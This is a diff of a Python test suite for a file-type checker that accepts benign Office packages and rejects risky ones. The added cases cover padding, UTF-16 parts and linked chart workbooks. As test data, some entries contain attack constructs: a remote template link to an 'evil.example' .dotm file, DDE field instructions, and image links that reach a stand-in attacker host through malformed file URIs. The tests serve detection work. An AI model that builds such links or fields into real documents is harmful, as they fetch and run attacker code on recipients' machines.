@@ -56,6 +56,68 @@ def test_no_damage_to_a_package_is_an_error(data: st.DataObject) -> None:
     assert kind(bytes(whole[: data.draw(st.integers(0, len(whole)))])) in {None, "docx"}
 
 
+# Five presentations and documents from the web among the test data of apache/poi end so.
+@pytest.mark.parametrize("padding", [b"\n", b"\r\n", bytes(512)], ids=ascii)
+def test_a_package_may_end_with_padding(padding: bytes) -> None:
+    whole = an_office_file("docx")
+
+    assert kind(whole + padding) == "docx"
+    assert kind(whole[:-1] + b"\n") is None
+    assert kind(whole + padding + b"x") is None
+    assert kind(whole + padding + whole) is None
+
+
+def a_part(body: str, encoding: str) -> bytes:
+    return f'<?xml version="1.0" encoding="UTF-16"?>{body}'.encode(encoding)
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le"])
+def test_parts_may_be_written_in_utf_16(encoding: str) -> None:
+    """ECMA-376, part 2, 8.2.5; PHPOffice/PhpSpreadsheet, utf16be.xlsx, which has no mark."""
+    override = f'<Override PartName="/{PARTS["docx"]}" ContentType="{MAIN["docx"]}"/>'
+    parts = {
+        "[Content_Types].xml": a_part(f"<Types>{override}</Types>", encoding),
+        PARTS["docx"]: a_part("<p><instrText>PAGE</instrText></p>", encoding),
+    }
+    link = a_link("attachedTemplate", "https://evil.example/t.dotm")
+    remote = {name: a_part(body.decode(), encoding) for name, body in link.items()}
+    dde = {"word/header1.xml": a_part("<p><instrText>DDE c</instrText></p>", encoding)}
+
+    assert kind(a_package_of(parts)) == "docx"
+    assert kind(a_package_of(parts | remote)) is None
+    assert kind(a_package_of(parts | dde)) is None
+
+
+CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
+
+
+@pytest.mark.parametrize(
+    ("target", "type_", "expected"),
+    [
+        (r"file:///C:\Users\ada\Prices.xlsx", CHART, "pptx"),
+        (r"\\server\share\Prices.xlsx", CHART, None),
+        ("https://fabrikam.example/Prices.xlsx", CHART, None),
+        (r"file:///C:\Users\ada\Prices.xlsx", MAIN["docx"].replace(".main", ".header"), None),
+    ],
+)
+def test_a_chart_may_name_the_workbook_that_it_was_copied_from(
+    target: str, type_: str, expected: str | None
+) -> None:
+    """PowerPoint, "Keep source formatting and link data"; apache/tika, testPPT_charts.pptx."""
+    declared = "".join(
+        f'<Override PartName="/{part}" ContentType="{content_type}"/>'
+        for part, content_type in ((PARTS["pptx"], MAIN["pptx"]), ("ppt/charts/chart1.xml", type_))
+    )
+    parts = {
+        "[Content_Types].xml": f"<Types>{declared}</Types>".encode(),
+        PARTS["pptx"]: b"<x/>",
+        "ppt/charts/chart1.xml": b"<c:chartSpace xmlns:c='c'/>",
+        **a_link("oleObject", target, part="ppt/charts/chart1.xml"),
+    }
+
+    assert kind(a_package_of(parts)) == expected
+
+
 def rename(package: bytes, spell: Callable[[str], str]) -> bytes:
     """The same package with other names of its parts."""
     with zipfile.ZipFile(io.BytesIO(package)) as old:
@@ -200,6 +262,8 @@ NESTED = (
         {"word/header1.xml": a_field('SET a HYPERLINK "DDE c"')},
         {"word/header1.xml": NESTED},
         a_link("xlIntlMacrosheet", "intl/sheet1.xml", mode="Internal", part="xl/workbook.xml"),
+        a_link("image", "http:evil.example:x"),
+        a_link("image", "x y:z//evil.example/x"),
         a_link("image", "file://localhost//evil.example/share/x.png"),
         a_link("image", "file://localhost.evil.example/x.png"),
         {"__MACOSX/word/header1.xml": b"<p><instrText>DDE c</instrText></p>"},
@@ -247,6 +311,8 @@ APPLE_DOUBLE = b"\0\5\x16\7\0\2\0\0Mac OS X        "
         {"word/header1.xml": a_field('XE "DDE"')},  # an index (ECMA-376, part 1, 17.16.5.76)
         {"word/header1.xml": a_field("QUOTE 34")},  # a quotation mark in a mail merge
         {"word/header1.xml": a_field('QUOTE "1 January 2026"')},
+        # Word 2011 for Mac (jgm/pandoc, test/docx/german_styled_lists.docx)
+        a_link("attachedTemplate", "Macintosh%20HD:Users:ada:Library:SOW.dotx"),
         # PowerPoint for Mac (scanny/python-pptx, docs/dev/analysis): RFC 8089, 2
         a_link("image", "file://localhost/Users/ada/logo.jpg"),
         # Packed again on a Mac (RFC 1740)
